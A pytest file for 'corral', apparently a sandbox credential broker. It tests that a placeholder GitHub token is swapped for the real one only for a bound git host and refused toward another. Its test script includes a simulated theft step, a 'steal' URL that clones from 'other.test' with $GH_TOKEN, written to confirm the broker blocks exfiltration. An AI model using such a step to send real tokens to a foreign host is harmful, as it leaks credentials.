"""`git clone` / `git push` over HTTPS inside `corral exec` with a placeholder token.

A tiny smart-HTTP server (`git http-backend` behind a TLS `http.server`) on the
host's loopback demands `Authorization: Basic x-access-token:<real>`; the
sandbox holds only the placeholder, which the broker swaps for the bound host
and refuses (journaled `exfiltration`) towards another.
"""

from __future__ import annotations

import base64
import os
import secrets
import shutil
import ssl
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from corral.broker.journal import read_rows

from ..broker.testlib import ThrowawayCA, make_ca
from .conftest import ExecFn

pytestmark = [
    pytest.mark.requires_sandbox,
    pytest.mark.skipif(
        not os.path.exists("/usr/lib/git-core/git-http-backend"), reason="git http-backend missing"
    ),
]

BACKEND = "/usr/lib/git-core/git-http-backend"


@dataclass
class GitServer:
    port: int
    auth_seen: list[str] = field(default_factory=list)
    pushes: list[str] = field(default_factory=list)


def _serve_git(
    root: Path, expected: str, tls: ssl.SSLContext
) -> tuple[ThreadingHTTPServer, GitServer]:
    state = GitServer(0)

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            return

        def _body(self) -> bytes:
            if "chunked" in (self.headers.get("Transfer-Encoding") or "").lower():
                parts: list[bytes] = []
                while True:
                    size = int(self.rfile.readline().split(b";")[0].strip() or b"0", 16)
                    if size == 0:
                        self.rfile.readline()
                        return b"".join(parts)
                    parts.append(self.rfile.read(size))
                    self.rfile.readline()
            return self.rfile.read(int(self.headers.get("Content-Length") or 0))

        def _serve(self) -> None:
            body = self._body()
            auth = self.headers.get("Authorization") or ""
            state.auth_seen.append(auth)
            if auth != expected:
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="git"')
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            path, _, query = self.path.partition("?")
            if path.endswith("/git-receive-pack"):
                state.pushes.append(path)
            env = {
                "PATH": "/usr/bin:/bin",
                "GIT_PROJECT_ROOT": str(root),
                "GIT_HTTP_EXPORT_ALL": "1",
                "REMOTE_USER": "x-access-token",
                "REQUEST_METHOD": self.command,
                "PATH_INFO": path,
                "QUERY_STRING": query,
                "CONTENT_TYPE": self.headers.get("Content-Type") or "",
                "CONTENT_LENGTH": str(len(body)),
                "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding") or "",
                "GIT_PROTOCOL": self.headers.get("Git-Protocol") or "",
            }
            out = subprocess.run(
                [BACKEND], input=body, env=env, capture_output=True, timeout=30, check=False
            )
            head, _, payload = out.stdout.partition(b"\r\n\r\n")
            status = 200
            headers = []
            for line in head.split(b"\r\n"):
                name, _, value = line.decode("latin-1").partition(":")
                if name.lower() == "status":
                    status = int(value.split()[0])
                elif name:
                    headers.append((name, value.strip()))
            self.send_response(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        do_GET = do_POST = _serve

    class Server(ThreadingHTTPServer):
        daemon_threads = True

        def finish_request(self, request: Any, client_address: Any) -> None:
            try:
                wrapped = tls.wrap_socket(request, server_side=True)
            except (OSError, ssl.SSLError):
                return
            with wrapped:
                super().finish_request(wrapped, client_address)

    server = Server(("127.0.0.1", 0), Handler)
    state.port = server.server_address[1]
    threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    ).start()
    return server, state


@pytest.fixture(scope="module")
def test_ca(tmp_path_factory: pytest.TempPathFactory) -> ThrowawayCA:
    return make_ca(tmp_path_factory.mktemp("ca"))


@pytest.fixture
def real() -> str:
    return f"ghp_{secrets.token_hex(16)}"


@pytest.fixture
def git_servers(
    tmp_path: Path, test_ca: ThrowawayCA, real: str
) -> Iterator[tuple[GitServer, GitServer]]:
    root = tmp_path / "srv"
    root.mkdir()
    repo = root / "repo.git"
    git = ["git", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", "--bare", str(repo)], check=True)
    subprocess.run(["git", "-C", str(repo), "config", "http.receivepack", "true"], check=True)
    seed = tmp_path / "seed"
    subprocess.run([*git, "init", "-q", str(seed)], check=True)
    (seed / "README").write_text("hello\n")
    ident = ["-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run(["git", "-C", str(seed), "add", "README"], check=True)
    subprocess.run(["git", "-C", str(seed), *ident, "commit", "-qm", "seed"], check=True)
    subprocess.run(["git", "-C", str(seed), "push", "-q", str(repo), "HEAD:main"], check=True)
    expected = "Basic " + base64.b64encode(f"x-access-token:{real}".encode()).decode()
    bound_srv, bound = _serve_git(root, expected, test_ca.server_context())
    other_srv, other = _serve_git(root, expected, test_ca.server_context())
    try:
        yield bound, other
    finally:
        for s in (bound_srv, other_srv):
            s.shutdown()
            s.server_close()


@pytest.mark.skipif(shutil.which("git") is None, reason="git missing")
def test_git_clone_and_push_with_placeholder(
    corral_exec: ExecFn,
    git_servers: tuple[GitServer, GitServer],
    test_ca: ThrowawayCA,
    tmp_path: Path,
    real: str,
) -> None:
    bound, other = git_servers
    cfg = tmp_path / "corral.toml"
    cfg.write_text(
        'resolver_overrides = { "secure.test" = "127.0.0.1", "other.test" = "127.0.0.1" }\n'
        "system_dns = false\n"
        f'upstream_tls = {{ ca_bundle = "{test_ca.ca_pem}" }}\n'
        f'[[rules]]\nhost = "secure.test"\nports = [{bound.port}]\nallow_private = true\n'
        f'[[rules]]\nhost = "other.test"\nports = [{other.port}]\n'
        'methods = ["GET", "POST"]\nallow_private = true\n'
        '[[credentials]]\nname = "github"\nenv = "GH_TOKEN"\nvalue = "env:CORRAL_TEST_GH"\n'
        'hosts = ["secure.test"]\n'
    )
    journal = tmp_path / "j.sqlite"
    url = f"https://x-access-token:$GH_TOKEN@secure.test:{bound.port}/repo.git"
    steal = f"https://x-access-token:$GH_TOKEN@other.test:{other.port}/repo.git"
    script = "\n".join(
        [
            "set -e",
            "export GIT_TERMINAL_PROMPT=0",
            f'git clone -q "{url}" clone',
            "cd clone",
            "echo pushed > NEW",
            "git add NEW",
            "git -c user.name=s -c user.email=s@s commit -qm push",
            "git push -q origin HEAD:main",
            "echo PUSHED",
            "cd ..",
            f'if git clone -q "{steal}" stolen 2>err; then echo STOLEN; else echo REFUSED; fi',
            "cat err",
        ]
    )
    env = {**os.environ, "CORRAL_TEST_GH": real}
    out = corral_exec(
        "sh", "-c", script, opts=("--config", str(cfg), "--journal", str(journal)), env=env,
        timeout=120,
    )  # fmt: skip
    assert "PUSHED" in out.stdout, out.stdout + out.stderr
    assert "REFUSED" in out.stdout, out.stdout + out.stderr
    expected = "Basic " + base64.b64encode(f"x-access-token:{real}".encode()).decode()
    assert expected in bound.auth_seen
    assert bound.pushes, "the push never reached the server"
    # other.test only ever saw the unauthenticated first request.
    assert all(a == "" for a in other.auth_seen)
    log = subprocess.run(
        ["git", "-C", str(tmp_path / "srv" / "repo.git"), "log", "--format=%s", "main"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert log.stdout.splitlines()[0] == "push"
    for text in (out.stdout, out.stderr):
        assert real not in text and expected.split()[1] not in text
    raw = b"".join(p.read_bytes() for p in tmp_path.glob("j.sqlite*"))
    assert real.encode() not in raw
    rows = read_rows(journal)
    assert any(r.rule == "exfiltration" and "other.test" in r.target for r in rows)
